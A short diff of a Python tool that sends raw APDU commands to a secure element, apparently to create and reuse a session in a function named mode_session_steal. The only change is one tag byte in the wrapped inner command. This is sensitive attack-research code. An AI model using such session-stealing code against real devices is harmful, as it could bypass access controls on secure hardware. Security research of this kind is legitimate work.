@@ -160,7 +160,7 @@ def mode_session_steal(path, uid_obj):
     r = apdu(a, "8004001B064104" + uid_obj)
     assert sw(r) == "9000", "CreateSession " + sw(r)
     sid = r[2:10].hex() if r[1] == 8 else r[4:12].hex()
-    inner = "8004002C0A4208" + value
+    inner = "8004002C0A4108" + value
     wrapped = "10 08" + sid + "41%02X" % (len(inner) // 2) + inner
     wrapped = wrapped.replace(" ", "")
     r = apdu(a, "80050000%02X" % (len(wrapped) // 2) + wrapped)
